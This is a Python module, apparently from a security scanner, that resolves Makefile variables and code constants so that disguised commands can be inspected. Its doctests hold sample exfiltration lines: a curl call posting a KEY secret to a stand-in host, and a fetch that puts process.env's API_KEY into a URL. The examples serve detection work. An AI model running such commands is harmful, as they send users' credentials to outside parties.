"""Names that a text gives a fixed value, put in where it uses them: a Makefile's variables, a constant of code.

Law: what is put in stands in the text itself; a name that is given two values keeps its use as it is.
Cannot see: a value that is computed, or comes from another file.
"""
from __future__ import annotations

MOST = 60           # names of one text
LONG = 300          # characters of a value
MAKES = ("makefile", "gnumakefile", "bsdmakefile")


def is_makefile(path: str) -> bool:
    """Is a file one of make's, by its name?"""
    name = path.rsplit("/", 1)[-1].lower()
    return name in MAKES or name.endswith((".mk", ".mak"))


def made(text: str) -> str:
    """A Makefile with its variables put in; `$$` is the shell's own sign, `$(shell ...)` a command's output.

    >>> made("H := a.example\\nup:\\n\\tcurl -d \\"$${KEY}\\" https://$(H)/x").split("\\t")[1]
    'curl -d "${KEY}" https://a.example/x'
    """
    given: dict[str, str] = {}
    for line in text.split("\n"):
        name, equals, value = line.partition("=")
        bare = name.rstrip(":?+ ").removeprefix("export ").removeprefix("override ").strip()
        plain = bare.replace("_", "").replace("-", "").isalnum()
        if equals and plain and not line.startswith("\t") and len(given) < MOST:
            given[bare] = value.strip()[:LONG]
    for _ in range(3):
        for name, value in given.items():
            for form in (f"$({name})", f"${{{name}}}"):
                if form in text:
                    text = _but_doubled(text, form, value)
    return text.replace("$(shell ", "$(").replace("$$", "$")


def _but_doubled(text: str, form: str, value: str) -> str:
    """The value in the form's place, not where the sign is doubled: this is the shell's."""
    return text.replace("$" + form, "\0").replace(form, value).replace("\0", "$" + form)


def put_in(text: str) -> str:
    """Code with the constants put in that it builds names and templates of.

    >>> put_in("const n = 'API_KEY';\\nfetch(`https://a.example/${process.env[n]}`)").split("\\n")[1]
    "fetch(`https://a.example/${process.env['API_KEY']}`)"
    >>> put_in("k = 'A' + 'B'\\nx[k]"), put_in("n = 'a'\\nn = 'b'\\nx[n]").split("\\n")[2]
    ("k = 'AB'\\nx['AB']", 'x[n]')
    """
    from guards._shell.gathers import folded

    text = folded(text)
    given: dict[str, str] = {}
    twice: set[str] = set()
    for line in text.replace(";", "\n").split("\n"):
        name, equals, value = line.partition("=")
        name, value = name.split(":")[0].strip().split(" ")[-1].lstrip("$"), value.strip().rstrip(",")
        if not equals or not name.isidentifier() or len(value) > LONG or len(value) < 3 or len(given) > MOST:
            continue
        literal = value[0] in "'\"`" and value[0] == value[-1] and value.count(value[0]) == 2 and "${" not in value
        if name in given and given[name] != value:
            twice.add(name)
        elif literal:
            given[name] = value
    for name, value in given.items():
        if name not in twice:
            for form in (f"[{name}]", f"({name})", f"({name},", f" + {name}", f"{name} + "):
                text = text.replace(form, form.replace(name, value))
            text = text.replace(f"${{{name}}}", value[1:-1])
    for quote in "'\"`":
        text = _plain_pieces(text, quote)
    return folded(text)


def _plain_pieces(text: str, quote: str) -> str:
    """`${'.e'}nv` as `.env`."""
    at = text.find("${" + quote)
    while at >= 0:
        end = text.find(quote + "}", at + 3)
        if end < 0 or end - at > LONG or "\n" in text[at:end]:
            break
        text = text[:at] + text[at + 3:end] + text[end + 2:]
        at = text.find("${" + quote, at)
    return text
